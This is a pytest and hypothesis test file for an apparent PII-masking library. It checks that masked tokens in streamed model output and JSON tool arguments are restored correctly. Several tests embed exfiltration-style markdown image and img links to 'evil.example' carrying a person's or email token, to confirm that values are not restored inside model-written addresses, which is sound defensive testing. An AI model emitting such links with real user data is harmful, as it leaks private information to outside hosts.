import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from maskwire.stream.restorer import (
    ArgumentRestorer,
    Restoration,
    Tally,
    TextRestorer,
    restore_json_source,
    restore_text,
)
from maskwire.tokens import spell
from tests.fakes.vault import FakeVault
from tests.strategies.tokens import (
    MANGLED,
    SHAPE_MANGLED,
    SPELLINGS,
    VALUES_EACH,
    VAULT,
    cut,
    texts,
    value_of,
)

KNOWN = frozenset({f"https://crm.example/?q={SPELLINGS[0]}", f"/u/{SPELLINGS[40]}/x"})


def how(vault: FakeVault = VAULT, **settings: Any) -> Restoration:
    return Restoration(vault.resolve, Tally(), ours=vault.minter.may_be_ours, **{"surrogates": True, **settings})


def streamed(kind: type[TextRestorer | ArgumentRestorer], pieces: list[str], told: Restoration) -> str:
    restorer = kind(told)
    return "".join([*map(restorer.feed, pieces), restorer.flush()])


SETTINGS: st.SearchStrategy[dict[str, Any]] = st.sampled_from(
    [{}, {"restore_urls": True}, {"known_urls": KNOWN}, {"surrogates": False}]
)
_known = st.sampled_from([f"{url}{end}" for url in sorted(KNOWN) for end in (" ", ").", "/more", "", '"')])
_texts = st.lists(st.one_of(texts, _known, st.just("[a](")), max_size=4).map("".join)


@settings(deadline=None)
@given(cut(_texts), SETTINGS)
def test_any_split_restores_the_same(case: tuple[str, list[str]], settings: dict[str, Any]) -> None:
    text, pieces = case
    whole, parts = how(**settings), how(**settings)

    assert restore_text(text, whole) == streamed(TextRestorer, pieces, parts)
    assert whole.tally == parts.tally


_json = st.recursive(
    st.one_of(_texts, st.integers(), st.sampled_from([int(s) for s in SPELLINGS if s.isdigit()]), st.none()),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3),
        st.dictionaries(texts, inner, max_size=3),
        st.builds(json.dumps, inner),
    ),
    max_leaves=6,
)
_sources = st.one_of(
    st.builds(lambda value, plain: json.dumps(value, ensure_ascii=plain), _json, st.booleans()),
    texts,
    st.builds(lambda value, end: json.dumps(value)[:end], _json, st.integers(0, 200)),
)


@settings(deadline=None)
@given(cut(_sources), SETTINGS)
def test_any_split_of_arguments_restores_the_same(case: tuple[str, list[str]], settings: dict[str, Any]) -> None:
    source, pieces = case
    whole, parts = how(**settings), how(**settings)

    assert restore_json_source(source, whole) == streamed(ArgumentRestorer, pieces, parts)
    assert whole.tally == parts.tally


@settings(deadline=None)
@given(_json)
def test_restored_arguments_are_json_with_restored_strings(value: object) -> None:
    """What JSON reads in the restored source is what it reads in the masked one, restored string by string."""
    told = how(restore_urls=True)

    def restored(inner: object) -> object:
        if isinstance(inner, str):
            return _inner(inner)
        if isinstance(inner, list):
            return [restored(each) for each in inner]
        if isinstance(inner, dict):
            return {_inner(key): restored(each) for key, each in inner.items()}
        if isinstance(inner, int) and str(inner) in SPELLINGS:
            return json.loads(restore_json_source(f"[{inner}]", told))[0]
        return inner

    def _inner(text: str) -> str:
        source = restore_json_source(json.dumps(text, ensure_ascii=False), told)
        return str(json.loads(source))

    wrapped = [value]

    assert json.loads(restore_json_source(json.dumps(wrapped), told), object_pairs_hook=list) == json.loads(
        json.dumps(restored(wrapped)), object_pairs_hook=list
    )


@pytest.mark.parametrize("entity", SHAPE_MANGLED)
def test_all_manglings_are_restored_whole_and_streamed(entity: str) -> None:
    told = how(restore_urls=True)
    tried = restored = 0
    for mangle in (*MANGLED.values(), *SHAPE_MANGLED[entity].values()):
        for index in range(VALUES_EACH):
            value = value_of(entity, index)
            text = mangle(spell(VAULT.token(entity, value), value))
            found = restore_text(text, told)
            tried += 1
            restored += value in found

            assert found == streamed(TextRestorer, list(text), told)

    assert restored / tried >= 0.95, f"{restored} of {tried}"


def _look_alike(spelling: str) -> str:
    """Return the same shape with one character changed."""
    last = spelling[-1]
    return spelling[:-1] + ("3" if last == "2" else "2" if last.isdigit() else "W" if last == "Z" else "Z")


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_a_look_alike_is_left_alone(spelling: str) -> None:
    look_alike = _look_alike(spelling) if "@" not in spelling else spelling.replace("mail.", "mail.2")[: -0 or None]
    text = f"say {look_alike} twice {look_alike}"

    assert restore_text(text, how()) == text


def _token(entity: str, index: int = 0) -> str:
    value = value_of(entity, index)
    return spell(VAULT.token(entity, value), value)


def test_each_occurrence_is_counted() -> None:
    told = how()
    person, foreign = _token("PERSON"), FakeVault().token("PERSON", "somebody else")
    restore_text(f"{person} {person} {foreign} ![x](https://evil.example/{person})", told)

    assert told.tally == Tally(restored=2, unresolved=1, withheld=1)


def test_a_vault_that_fails_leaves_the_token_and_loses_nothing() -> None:
    vault = FakeVault()
    token = vault.token("PERSON", "Ann")
    vault.broken = True
    told = how(vault)

    assert restore_text(f"Hi {token}!", told) == f"Hi {token}!"
    assert told.tally == Tally(unresolved=1)


def test_no_value_is_restored_in_an_address_the_model_wrote() -> None:
    person, mail = _token("PERSON"), _token("EMAIL_ADDRESS")
    text = f"![x](https://evil.example/?q={person}) <img src='//evil.example/{person}'> www.evil.example/{mail} ok"

    assert restore_text(text, how()) == text
    assert value_of("PERSON", 0) in restore_text(text, how(restore_urls=True))


def test_only_the_persons_own_address_is_restored() -> None:
    person = _token("PERSON")
    own = f"https://crm.example/u/{person}"
    told = how(known_urls=frozenset({own}))
    value = value_of("PERSON", 0)

    assert restore_text(f"See {own}.", told) == f"See https://crm.example/u/{value}."
    assert restore_text(f"[x]({own})", told) == f"[x](https://crm.example/u/{value})"
    for other in (
        f"{own}/more",
        f"{own}?x=1",
        f"https://evil.example/{own}",
        f"{own}{person}",
        own.replace("crm", "evil"),
    ):
        assert restore_text(f"See {other} .", told) == f"See {other} ."


def test_mail_links_are_restored() -> None:
    mail, value = _token("EMAIL_ADDRESS"), value_of("EMAIL_ADDRESS", 0)

    assert restore_text(f"[{mail}](mailto:{mail}), <{mail}>", how()) == f"[{value}](mailto:{value}), <{value}>"


@pytest.mark.parametrize("levels", range(1, 5))
def test_a_value_is_escaped_once_for_each_string_around_it(levels: int) -> None:
    token, value = _token("PRIVATE_KEY"), value_of("PRIVATE_KEY", 0)
    source, expected = token, value
    for _ in range(levels):
        source, expected = json.dumps({"k": source}), json.dumps({"k": expected}, ensure_ascii=False)

    assert restore_json_source(source, how()) == expected
    assert streamed(ArgumentRestorer, list(source), how()) == expected


def test_code_in_a_string_is_escaped_for_the_string_only() -> None:
    token, value = _token("PRIVATE_KEY"), value_of("PRIVATE_KEY", 0)
    source = json.dumps({"code": f'f("{token}")'})

    assert json.loads(restore_json_source(source, how())) == {"code": f'f("{value}")'}


def test_a_bare_number_becomes_a_number_or_a_string() -> None:
    vault = FakeVault()
    number = vault.token("CREDIT_CARD", "4111111111111111")
    grouped = vault.token("CREDIT_CARD", "4111 1111 1111 1111")
    source = f'{{"a": {number}, "b": {grouped}, "c": "{number}", "d": "[{number}, {grouped}]"}}'

    assert json.loads(restore_json_source(source, how(vault))) == {
        "a": 4111111111111111,
        "b": "4111 1111 1111 1111",
        "c": "4111111111111111",
        "d": '[4111111111111111, "4111 1111 1111 1111"]',
    }


def test_a_structured_answer_stays_json() -> None:
    vault = FakeVault()
    quoted = 'a "b" \\ c\nd'
    token, number = vault.token("PASSWORD", quoted), vault.token("CREDIT_CARD", "4111 1111 1111 1111")
    source = vault.token("PRIVATE_KEY", "--BEGIN\\nMII\\n--END")
    text = json.dumps({"a": token, "b": int(number), "c": json.dumps([token]), "d": source})
    restored = restore_text(text, how(vault))

    assert json.loads(restored) == {
        "a": quoted,
        "b": "4111 1111 1111 1111",
        "c": json.dumps([quoted]),
        "d": "--BEGIN\nMII\n--END",
    }
    assert streamed(TextRestorer, list(text), how(vault)) == restored


def test_text_that_is_no_json_takes_values_as_they_are() -> None:
    token, value = _token("PRIVATE_KEY"), value_of("PRIVATE_KEY", 0)
    for text in ('[1] say "{}"', 'He said: {{"k": "{}"}}', "```json\n{}\n```"):
        assert restore_text(text.format(token), how()) == text.format(value)


def test_arguments_stay_masked_where_the_person_wants_that() -> None:
    source = json.dumps({"to": _token("PERSON")})

    assert restore_json_source(source, how(restore_arguments=False)) == source


def test_arguments_that_are_no_json_are_restored_as_text() -> None:
    person, value = _token("PERSON"), value_of("PERSON", 0)

    assert restore_json_source(f"*** Update: {person}\n", how()) == f"*** Update: {value}\n"
    assert restore_json_source("", how()) == ""


def test_strings_of_arguments_are_texts_of_their_own() -> None:
    person, value = _token("PERSON"), value_of("PERSON", 0)
    source = f'{{"url": "https://evil.example/?q=", "name": "{person}", "link": "https://evil.example/?q={person}"}}'
    expected = f'{{"url": "https://evil.example/?q=", "name": "{value}", "link": "https://evil.example/?q={person}"}}'

    assert restore_json_source(source, how()) == expected


@pytest.mark.parametrize("kind", [TextRestorer, ArgumentRestorer])
def test_flushing_twice_adds_nothing(kind: Callable[[Restoration], TextRestorer | ArgumentRestorer]) -> None:
    restorer = kind(how())
    restorer.feed('{"a": "PERSON_K7')
    first = restorer.flush()

    assert first.endswith("PERSON_K7")
    assert restorer.flush() == ""
